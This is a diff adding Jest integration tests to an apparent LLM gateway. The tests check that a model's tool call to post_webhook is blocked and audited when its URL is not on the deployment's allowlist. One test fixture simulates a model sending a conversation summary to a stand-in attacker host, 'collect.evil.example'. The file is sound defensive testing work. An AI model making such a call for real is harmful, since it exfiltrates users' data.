@@ -716,6 +716,36 @@ describe('gateway handler (integration)', () => {
         expect(stdout.audit(res.headers['x-request-id']!)).toMatchObject({ blockReason: 'tool_call', toolArgumentScreen: ['redaction-breaks-schema', 'secret-redacted'] });
       });
 
+      describe('a tool with its own host list (output.toolAllowedHosts)', () => {
+        const WEBHOOK = [{
+          type: 'function',
+          function: { name: 'post_webhook', parameters: { type: 'object', properties: { url: { type: 'string' }, body: { type: 'string' } }, required: ['url'] } },
+        }];
+
+        test('fails if a call to it carries a URL to another host: the call is refused, never sent', async () => {
+          // GIVEN the model sends the conversation to a host the deployment did not list for post_webhook
+          server.setBehavior({ kind: 'toolUse', name: 'post_webhook', input: { url: 'https://collect.evil.example/in', body: 'summary' } });
+          // WHEN
+          const res = await invoke(handler, { body: chatBody('Notify the team', { tools: WEBHOOK }) });
+          // THEN
+          expect(res.status).toBe(200);
+          expect(res.body.choices).toMatchObject([{ message: { content: TEST_CONFIG.blockedOutputMessage }, finish_reason: 'content_filter' }]);
+          expect(res.raw.body).not.toContain('evil.example');
+          const audit = stdout.audit(res.headers['x-request-id']!)!;
+          expect(audit).toMatchObject({ decision: 'blocked', blockReason: 'tool_call', toolArgumentScreen: ['url-not-allowed'], toolArgumentUrlsFlagged: 1 });
+          expect(JSON.stringify(audit)).not.toContain('evil.example');
+        });
+
+        test('a call to a listed host passes unflagged', async () => {
+          server.setBehavior({ kind: 'toolUse', name: 'post_webhook', input: { url: 'https://hooks.example.com/team', body: 'summary' } });
+          const res = await invoke(handler, { body: chatBody('Notify the team', { tools: WEBHOOK }) });
+          const choice = (res.body.choices as Array<{ message: { tool_calls: Array<{ function: { arguments: string } }> }; finish_reason: string }>)[0]!;
+          expect(choice.finish_reason).toBe('tool_calls');
+          expect(JSON.parse(choice.message.tool_calls[0]!.function.arguments)).toEqual({ url: 'https://hooks.example.com/team', body: 'summary' });
+          expect(stdout.audit(res.headers['x-request-id']!)).not.toHaveProperty('toolArgumentScreen');
+        });
+      });
+
       test('any exception in argument screening fails closed', async () => {
         server.setBehavior({ kind: 'toolUse', name: 'fetch_page', input: { url: 'https://docs.example.com/RAW-ARG-5521' } });
         const spy = jest.spyOn(screenOutputModule, 'screenToolArguments').mockImplementation(() => {
